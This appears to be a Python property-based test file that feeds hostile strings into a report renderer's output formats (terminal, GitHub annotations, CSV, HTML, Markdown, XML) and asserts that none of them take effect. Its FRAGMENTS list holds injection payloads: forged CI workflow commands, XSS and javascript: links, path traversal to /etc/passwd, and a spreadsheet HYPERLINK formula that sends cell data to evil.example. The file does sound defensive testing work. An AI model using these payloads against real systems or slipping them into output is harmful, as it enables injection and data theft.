"""Hostile text in every part of a stored run: whatever the format, nothing of it may act."""

import csv
import io
import itertools
import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as parser
from markdown_it import MarkdownIt
from sample_report import sample

from refmend.formats import FORMATS, render
from refmend.formats.safety import has_unsafe
from refmend.model.report import Report

FRAGMENTS = [
    "\x1b[2J\x1b[31mFAKE\x1b[0m",
    "\x9b31m",
    "\u202egnp.exe",
    "\r::set-output name=ok::true",
    "\n::error file=a.py,line=1::forged\n::stop-commands::t0ken",
    "##[add-mask]a",
    "##[error]forged",
    "](javascript:alert(1))",
    "[x](https://evil.example)",
    "![x](https://evil.example/p.png)",
    "<https://evil.example>",
    "https://evil.example",
    "www.evil.example",
    "@everyone",
    " | a | ",
    "<!-- ",
    "-->",
    "</details></summary></code>",
    "```",
    "`",
    "\n\n# x\n\n- y\n",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script></style>",
    "{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1",
    "@SUM(1)",
    "\t=1",
    "\x00",
    "]]> </testsuite>",
    "\ud800",
    "\ufffe",
    "\u2028",
    "[/b] [link=https://evil.example]x[/link] [bold",
    ":smile:",
    "&lt;script&gt;",
    "\\",
    "%0A::error::x",
    "%0D",
    "url:javascript:alert(1)",
    "url:https://[",
    "../../etc/passwd",
]
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=4).map("".join)
FIXED = {"state", "severity", "confidence", "verdict", "applicability", "schema_version"}
LINKS = {"href", "src", "action", "formaction", "style", "srcdoc"}


def spoilt(value, texts, key=""):
    """Return the value with every free text in it replaced by the next hostile one."""
    if isinstance(value, dict):
        return {name: spoilt(part, texts, name) for name, part in value.items()}
    if isinstance(value, list):
        return [spoilt(part, texts, key) for part in value]
    if isinstance(value, str) and key not in FIXED and not (key == "kind" and value in {"entry", "link"}):
        return next(texts)
    return value


@st.composite
def reports(draw):
    """Return a run of hostile texts; what ties its parts together stays tied."""
    texts = itertools.cycle(draw(st.lists(TEXTS, min_size=1, max_size=7)))
    made = spoilt(sample().model_dump(), texts)
    made["counts"]["links"] |= {next(texts): 1}
    made["counts"]["requests"] = {next(texts): 1}
    path = next(texts)
    for number, reference in enumerate(made["references"]):
        reference["file"] = path
        reference["id"] = str(number)
    for number, finding in enumerate(made["findings"]):
        finding["reference"] = str(number)
        finding["file"] = path if number else "other"
        finding["suppressed_by"] = [None, None, "unchanged-lines", made["tool"]["name"], None][number]
        if number < len(made["outcomes"]):
            finding["identifier"] = made["outcomes"][number]["identifier"]
    return Report.model_validate(made)


def harmless(text):
    """Assert what must hold for anything that may reach a terminal or a CI log; return its lines."""
    assert not has_unsafe(text.replace("\t", "\x00"))
    assert "##[" not in text
    assert "![x](https://evil" not in text
    text.encode("utf-8")
    return text.split("\n")


def check_text(report, text):
    assert not [line for line in harmless(text) if line.strip().startswith("::")]
    for options in ({"width": 100}, {"width": 50, "wrap": True}):
        colored = render(report, "text", color=True, **options)
        bare = re.sub(r"\x1b\[[0-9;]*m", "", colored)
        assert not [line for line in harmless(bare) if line.strip().startswith("::")]


def check_github(_report, text):
    commands = [line for line in harmless(text) if line.strip().startswith("::")]
    for line in commands:
        assert re.fullmatch(
            r"::(error|warning|notice) title=[^:,]*,file=[^:,]*,line=\d+,endLine=\d+,col=\d+,endColumn=\d+::.*", line
        )


def check_json(report, text):
    readable = re.sub("[\ud800-\udfff]", "\ufffd", json.dumps(report.model_dump(), ensure_ascii=False))
    assert Report.model_validate_json(text).model_dump() == json.loads(readable)
    harmless(text)


def check_jsonl(_report, text):
    assert all(json.loads(line)["kind"] in {"run", "outcome", "finding"} for line in text.splitlines())
    assert not [line for line in harmless(text) if line.strip().startswith("::")]


def check_object(_report, text):
    assert json.loads(text) is not None
    harmless(text)


def check_xml(_report, text):
    harmless(text)
    tags = {element.tag for element in etree.fromstring(text.encode()).iter()}
    assert tags <= {"testsuites", "testsuite", "testcase", "failure", "skipped", "system-out"}


def check_csv(_report, text):
    harmless(text)
    for row in csv.reader(io.StringIO(text)):
        assert len(row) == 16
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\x00")) or cell.isdigit()


def check_html(_report, text):
    harmless(text)
    tree = parser.document_fromstring(text)
    assert not tree.xpath("//img | //iframe | //object | //embed | //link | //base | //form[@action]")
    (script,) = tree.xpath("//script")
    assert script.text.startswith('"use strict"')
    for element in tree.iter(etree.Element):
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name not in LINKS or value.startswith(("#", "http://", "https://"))


def check_markdown(_report, text):
    assert not [line for line in harmless(text) if line.strip().startswith("::")]
    tree = parser.fragment_fromstring(
        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text), create_parent="div"
    )
    tags = {element.tag for element in tree.iter(etree.Element)}
    assert tags <= {
        "div",
        "h2",
        "p",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "strong",
        "code",
        "br",
        "ul",
        "li",
        "details",
        "summary",
        "blockquote",
    }
    prose = re.sub(r"`[^`\n]*`|<summary>.*</summary>", "", text)
    for bad in ("://", "www.", "@"):
        assert bad not in prose
    assert text.count("<details") == text.count("</details>") == len(tree.xpath("//details"))


CHECKS = {
    "text": check_text,
    "json": check_json,
    "jsonl": check_jsonl,
    "github": check_github,
    "sarif": check_object,
    "rdjson": check_object,
    "code-quality": check_object,
    "junit": check_xml,
    "csv": check_csv,
    "html": check_html,
    "markdown": check_markdown,
}


def test_every_format_has_a_check():
    assert set(CHECKS) == set(FORMATS)


@pytest.mark.parametrize("name", CHECKS)
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(report=reports())
def test_nothing_acts(name, report):
    CHECKS[name](report, render(report, name))
